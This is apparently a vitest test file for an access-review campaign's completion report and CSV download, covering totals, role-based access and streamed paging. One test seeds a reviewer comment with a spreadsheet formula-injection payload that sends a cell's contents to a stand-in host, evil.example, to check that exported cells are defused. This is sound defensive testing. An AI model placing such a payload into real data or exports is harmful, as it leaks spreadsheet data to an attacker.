import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createTestDb, type TestDb } from "../../testing/db";
import { campaignCast, campaignSnapshot, codeOf, DAY, expectUnchanged, grantAndItem, makeCampaign, type Cast } from "./campaign-test-kit";
import { openReportCsv, REPORT_CSV_HEADER, reportCsvStream } from "./report";
import { parseCsv, readAll } from "../../testing/csv";

let db: TestDb;
let cast: Cast;

beforeAll(async () => {
  db = await createTestDb();
  cast = await campaignCast(db.prisma);
});
afterAll(async () => {
  await db.close();
});

const campaign = (o: Partial<Parameters<typeof makeCampaign>[1]> = {}) => makeCampaign(db.prisma, { ownerId: cast.owner.id, fallbackReviewerId: cast.fallback.id, systemIds: [cast.system.id], ...o });

describe("the completion report", () => {
  it("rows per item with reviewer, decision, defaulted and overdue flags, and totals", async () => {
    const dueAt = new Date(Date.now() - 2 * DAY);
    const c = await campaign({ dueAt, defaultAction: "KEEP" });
    const onTime = await grantAndItem(db.prisma, c.id, cast.employee.id, cast.entitlement.id, cast.reviewer.id, { decision: "KEEP", comment: "needed", decidedAt: new Date(dueAt.getTime() - DAY) });
    const late = await grantAndItem(db.prisma, c.id, cast.holder.id, cast.entitlement.id, cast.reviewer.id, { decision: "REVOKE", comment: "moved teams", decidedAt: new Date(dueAt.getTime() + DAY) });
    const open = await grantAndItem(db.prisma, c.id, cast.holder.id, cast.privileged.id, cast.reviewer2.id);

    const before = await campaignReportAs(cast.owner.id, c.id);
    const row = (id: string) => before.rows.find((r) => r.itemId === id)!;
    expect(row(onTime.item.id)).toMatchObject({ reviewer: "Rita Reviewer", identity: "Eve Employee", entitlement: "db-reader", system: cast.system.name, decision: "KEEP", comment: "needed", decidedBy: "Rita Reviewer", defaulted: false, overdue: false, remediation: "NONE", receipt: null });
    expect(row(late.item.id)).toMatchObject({ decision: "REVOKE", overdue: true });
    expect(row(open.item.id)).toMatchObject({ decision: null, overdue: true, reviewer: "Rob Reviewer" });
    expect(before.totals).toMatchObject({ population: 3, items: 3, decided: 2, kept: 1, revoked: 1, defaulted: 0, undecided: 1, overdue: 2, revocationsRequested: 0 });
    expect(before.campaign).toMatchObject({ id: c.id, name: c.name, owner: { id: cast.owner.id, name: "Sofia Owner" }, fallbackReviewer: { name: "Fay Fallback" }, status: "ACTIVE" });
    expect(before.rowsTruncated).toBe(false);

    await cast.as(cast.owner.id).campaignOps.close({ campaignId: c.id });
    const after = await campaignReportAs(cast.auditor.id, c.id);
    expect(after.rows.find((r) => r.itemId === open.item.id)).toMatchObject({ decision: "KEEP", defaulted: true, decidedBy: "(default action)", overdue: true });
    expect(after.rows.find((r) => r.itemId === late.item.id)).toMatchObject({ remediation: "PENDING", receipt: { status: "PENDING", connector: "MANUAL" } });
    // The default action decided one item at close: counted apart from the reviewer's two decisions.
    expect(after.totals).toMatchObject({ decided: 2, kept: 1, revoked: 1, defaulted: 1, defaultKept: 1, defaultRevoked: 0, undecided: 0, revocationsRequested: 1, revocationsPending: 1, revocationsConfirmed: 0 });
    expect(after.campaign).toMatchObject({ status: "REMEDIATING", closedBy: { id: cast.owner.id, name: "Sofia Owner" } });
  });

  it("is read by the owner, admins, security and auditors; reviewers are FORBIDDEN, employees and other system owners do not see it (NOT_FOUND); nothing is written", async () => {
    const c = await campaign();
    await grantAndItem(db.prisma, c.id, cast.employee.id, cast.entitlement.id, cast.reviewer.id);
    const before = await campaignSnapshot(db.prisma);
    for (const who of [cast.owner, cast.admin, cast.security, cast.auditor]) expect((await campaignReportAs(who.id, c.id)).rows).toHaveLength(1);
    expect(await codeOf(campaignReportAs(cast.reviewer.id, c.id))).toBe("FORBIDDEN");
    for (const who of [cast.employee, cast.otherOwner]) expect(await codeOf(campaignReportAs(who.id, c.id))).toBe("NOT_FOUND");
    expect(await codeOf(cast.as(null).campaignOps.report({ campaignId: c.id }))).toBe("UNAUTHORIZED");
    expect(await codeOf(campaignReportAs(cast.owner.id, "00000000-0000-4000-8000-000000000000"))).toBe("NOT_FOUND");
    expect(await codeOf(cast.as(cast.owner.id).campaignOps.report({ campaignId: c.id, extra: 1 } as never))).toBe("BAD_REQUEST");
    await expectUnchanged(db.prisma, before);
  });
});

function campaignReportAs(id: string, campaignId: string) {
  return cast.as(id).campaignOps.report({ campaignId });
}

describe("the CSV download", () => {
  it("has a header row, one escaped row per item (formula injection defused), streamed in batches, with a filename", async () => {
    const c = await campaign({ name: "Q3 review: Production, \"critical\"" });
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    const multi = 'Kept, because "on call"\nsee ticket OPS-12';
    await grantAndItem(db.prisma, c.id, cast.employee.id, cast.entitlement.id, cast.reviewer.id, { decision: "KEEP", comment: evil });
    await grantAndItem(db.prisma, c.id, cast.holder.id, cast.entitlement.id, cast.reviewer.id, { decision: "KEEP", comment: multi });
    await grantAndItem(db.prisma, c.id, cast.holder.id, cast.privileged.id, cast.reviewer2.id, { decision: "REVOKE", comment: "-1+1" });
    await grantAndItem(db.prisma, c.id, cast.employee.id, cast.privileged.id, cast.reviewer2.id, { decision: "KEEP", comment: "@admin said so" });
    await grantAndItem(db.prisma, c.id, cast.reviewer2.id, cast.entitlement.id, cast.reviewer.id);

    const out = await openReportCsv(db.prisma, cast.auditor.id, c.id, new Date("2030-05-06T00:00:00Z"));
    if (!out.ok) throw new Error("expected the CSV");
    expect(out.filename).toBe("access-review-q3-review-production-critical-2030-05-06.csv");
    const text = await readAll(out.body);
    expect(text.startsWith("\uFEFF")).toBe(true);
    const rows = parseCsv(text.slice(1));
    expect(rows[0]).toEqual(REPORT_CSV_HEADER);
    expect(rows).toHaveLength(6);
    expect(rows.every((r) => r.length === REPORT_CSV_HEADER.length)).toBe(true);
    const comments = rows.slice(1).map((r) => r[REPORT_CSV_HEADER.indexOf("Comment")]);
    expect(comments).toEqual(expect.arrayContaining([`'${evil}`, multi, "'-1+1", "'@admin said so", ""]));
    // No cell the spreadsheet would evaluate.
    for (const r of rows) for (const cell of r) expect(cell).not.toMatch(/^[=+\-@]/);

    // Small batches give the same rows, in the same order.
    const campaignRow = await db.prisma.campaign.findUniqueOrThrow({ where: { id: c.id } });
    const batched = await readAll(reportCsvStream(db.prisma, campaignRow, new Date("2030-05-06T00:00:00Z"), 2));
    expect(batched).toBe(text);
  });

  it("the CSV pages seek in report order: ties on system, entitlement and holder names, any page size, every item once", async () => {
    const c = await campaign();
    const names = { system: ["Alpha", "alpha", "Beta"], entitlement: ["read", "Read", "write"], identity: ["Ann", "ann", "Zoë", "Zoe"] };
    for (let i = 0; i < 17; i++) {
      const { item } = await grantAndItem(db.prisma, c.id, cast.employee.id, cast.entitlement.id, cast.reviewer.id);
      const pickName = (xs: string[], k: number) => xs[(i * k) % xs.length]!;
      await db.prisma.reviewItem.update({ where: { id: item.id }, data: { systemName: pickName(names.system, 1), entitlementName: pickName(names.entitlement, 2), identityName: pickName(names.identity, 5) } });
    }
    // The report's order, as the database sorts (its collation), asked independently of the report's code.
    const expected = (
      await db.prisma.reviewItem.findMany({ where: { campaignId: c.id }, orderBy: [{ systemName: "asc" }, { entitlementName: "asc" }, { identityName: "asc" }, { id: "asc" }], select: { id: true } })
    ).map((i) => i.id);
    const row = await db.prisma.campaign.findUniqueOrThrow({ where: { id: c.id } });
    const itemIds = async (batch: number) => parseCsv((await readAll(reportCsvStream(db.prisma, row, new Date(), batch))).slice(1)).slice(1).map((r) => r[0]);
    for (const batch of [1, 2, 3, 5, 1000]) expect(await itemIds(batch), `batch ${batch}`).toEqual(expected);
    expect(new Set(expected).size).toBe(17);
  });

  it("answers 401 signed out, and 404 alike to others and for an unknown campaign", async () => {
    const c = await campaign();
    const now = new Date();
    expect(await openReportCsv(db.prisma, null, c.id, now)).toMatchObject({ ok: false, status: 401 });
    const missing = await openReportCsv(db.prisma, cast.employee.id, "00000000-0000-4000-8000-000000000000", now);
    expect(missing).toEqual({ ok: false, status: 404, message: "The campaign was not found." });
    for (const who of [cast.employee, cast.reviewer, cast.otherOwner]) expect(await openReportCsv(db.prisma, who.id, c.id, now)).toEqual(missing);
    expect(await openReportCsv(db.prisma, cast.owner.id, "00000000-0000-4000-8000-000000000000", now)).toMatchObject({ ok: false, status: 404 });
    expect(await openReportCsv(db.prisma, cast.owner.id, "not-an-id", now)).toMatchObject({ ok: false, status: 404 });
    for (const who of [cast.owner, cast.admin, cast.security, cast.auditor]) expect(await openReportCsv(db.prisma, who.id, c.id, now)).toMatchObject({ ok: true });
  });
});
